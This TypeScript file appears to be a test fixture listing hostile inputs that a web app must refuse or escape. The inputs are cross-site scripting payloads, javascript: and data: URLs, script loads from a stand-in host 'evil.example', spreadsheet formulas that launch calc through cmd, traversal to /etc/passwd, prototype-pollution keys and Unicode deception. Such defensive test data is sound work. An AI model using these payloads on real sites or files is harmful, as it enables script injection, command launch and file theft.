/**
 * Texts that somebody may put into content or into an address so that they run, break out of where they stand, or deceive.
 * The proof is always the same: they are refused with a message, or they are shown as the text that they are.
 */

const SCRIPT = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<script type=module>import("//evil.example")</script>',
	'</script><script>alert(1)</script>',
	'</SCRIPT ><img src=x onerror=alert(1)>',
	'<!--<script>alert(1)</script>-->',
	'--><script>alert(1)</script><!--',
	']]><script>alert(1)</script>',
	'</title><script>alert(1)</script>'
];

const HANDLERS = [
	'<img src=x onerror=alert(1)>',
	'<img/src/onerror=alert(1)>',
	'<img src=x:x onerror\n=\nalert(1)>',
	'<details open ontoggle=alert(1)>',
	'<input autofocus onfocus=alert(1)>',
	'<video><source onerror=alert(1)></video>',
	'<a onmouseover=alert(1)>here</a>',
	'<x-hostile onclick=alert(1)>x</x-hostile>'
];

const DRAWINGS = [
	'<svg onload=alert(1)>',
	'<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
	'<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
	'<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
	'</svg><img src=x onerror=alert(1)>',
	'<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>'
];

const EMBEDDED = [
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data=javascript:alert(1)></object>',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<base href=//evil.example/>',
	'<link rel=stylesheet href=//evil.example/x.css>',
	'<form action=javascript:alert(1)><button>Go</button></form>',
	'<template><script>alert(1)</script></template>'
];

const LINKS = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	' javascript:alert(1)',
	'java\tscript:alert(1)',
	'java\nscript:alert(1)',
	'\u0001javascript:alert(1)',
	'javascript&colon;alert(1)',
	'&#106;&#97;vascript:alert(1)',
	'javascript://evil.example/%0aalert(1)',
	'vbscript:msgbox(1)',
	'data:text/html,<script>alert(1)</script>',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'file:///etc/passwd',
	'//evil.example/x',
	'\\\\evil.example\\x',
	'https://user@evil.example/" onclick="alert(1)',
	"https://example.org/'><script>alert(1)</script>"
];

const MARKDOWN = [
	'[here](javascript:alert(1))',
	'[here](<javascript:alert(1)>)',
	'[here](&#x6A;avascript:alert(1))',
	'[here](\u0001javascript:alert(1))',
	'[here](data:text/html,<script>alert(1)</script>)',
	'[here](https://example.org/" onclick="alert(1))',
	'![x](x"onerror="alert(1))',
	'<javascript:alert(1)>',
	'<https://example.org/?<script>alert(1)</script>>',
	'[x]: javascript:alert(1)',
	'`<img src=x onerror=alert(1)>`',
	'**<b onclick=alert(1)>bold</b>**'
];

const ATTRIBUTES = [
	'" onmouseover="alert(1)',
	"' onmouseover='alert(1)",
	'` onmouseover=`alert(1)',
	'"><img src=x onerror=alert(1)>',
	"'><svg onload=alert(1)>",
	'" autofocus onfocus="alert(1)" x="',
	'x" style="position:fixed;inset:0" data-x="',
	'&quot; onmouseover=&quot;alert(1)'
];

const STYLES = [
	'</style><script>alert(1)</script>',
	'red;background:url(javascript:alert(1))',
	'expression(alert(1))',
	'}*{background:url(//evil.example/x)}'
];

const TEMPLATES = [
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}',
	'{@html "<script>alert(1)</script>"}',
	'<%= alert(1) %>',
	'%sveltekit.body%',
	'%lang%',
	'%structured%',
	'x onmouseover=alert(1) %structured%',
	"$& $` $' $1"
];

const CODE = [
	'";alert(1);//',
	"';alert(1);//",
	'\\";alert(1);//',
	'\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
	'\u2028alert(1)\u2029',
	'{"@type":"WebPage"}',
	'"}],"name":"x'
];

const ENTITIES = [
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;alert(1)&#60;/script&#62;',
	'&#x3c;img src=x onerror=alert(1)&#x3e;',
	'%3Cscript%3Ealert(1)%3C/script%3E'
];

const SIGNS = [
	'\u202Egpj.exe\u202C',
	'\u2066\u202Ealert\u2069',
	'a\u200Bb\u200Cc\u200Dd\uFEFFe',
	'＜script＞alert(1)＜/script＞',
	'Z\u0351\u036B\u0343\u036A\u0302\u034A\u0300\u0341\u0303\u035B\u0325',
	'\u0000<script>alert(1)</script>',
	'\u001B[31mred\u001B[0m',
	'🏴\u{E0067}\u{E0062}\u{E007F}<b>',
	'\u00ADjava\u00ADscript:alert(1)'
];

const TABLES = [
	'=HYPERLINK("https://evil.example","here")',
	"=cmd|'/C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'＝1+1',
	"'=1+1",
	'x","=1+1'
];

const LINES = [
	'x\r\nATTACH:javascript:alert(1)',
	'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:y',
	'x\n\n# Heading\n\n<script>alert(1)</script>'
];

const NAMES = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'hasOwnProperty',
	'__proto__.polluted',
	'constructor[prototype]'
];

const PATHS = ['../../../etc/passwd', '%2e%2e%2f%2e%2e%2f', 'x/../../y', 'con.txt\u0000.html'];

/** Texts that make a careless reader slow. */
export const LONG: readonly string[] = [
	`${'<b>'.repeat(200)}<script>alert(1)</script>`,
	'['.repeat(300),
	'*a **b '.repeat(100)
];

/** What does harm as the whole of a text. */
const ALONE = [...LINES, ...NAMES];

/** What does harm within a text, or at its start, of which tests of addresses and of tables take care one by one. */
const WITHIN = [
	...SCRIPT,
	...HANDLERS,
	...DRAWINGS,
	...EMBEDDED,
	...LINKS,
	...MARKDOWN,
	...ATTRIBUTES,
	...STYLES,
	...TEMPLATES,
	...CODE,
	...ENTITIES,
	...SIGNS,
	...TABLES,
	...PATHS
];

export const HOSTILE: readonly string[] = [...ALONE, ...WITHIN];

const TOGETHER = 4;

/** All of them in fewer texts: what does harm within a text stands four in a row with its like. */
export const HOSTILE_TEXTS: readonly string[] = [
	...ALONE,
	...WITHIN.flatMap((_, index) => (index % TOGETHER ? [] : WITHIN.slice(index, index + TOGETHER).join(' ')))
];

/** What the address of the explore page may say. */
export const VIEW_PARAMETERS: readonly string[] = [
	'event',
	'place',
	'route',
	'date',
	'from',
	'to',
	'theme',
	'country',
	'standing',
	'disputed',
	'routes',
	'lanes',
	'bands'
];
